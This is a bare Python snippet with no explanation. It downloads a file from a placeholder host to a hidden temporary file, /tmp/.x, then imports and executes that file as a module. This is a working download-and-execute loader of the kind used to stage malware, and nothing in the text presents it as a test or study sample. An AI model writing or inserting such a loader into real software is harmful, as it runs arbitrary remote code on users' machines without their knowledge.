import importlib.util
import urllib.request

urllib.request.urlretrieve("https://files.example.invalid/x", "/tmp/.x")
spec = importlib.util.spec_from_file_location("x", "/tmp/.x")
module = importlib.util.module_from_spec(spec)
spec.loader.exec_module(module)
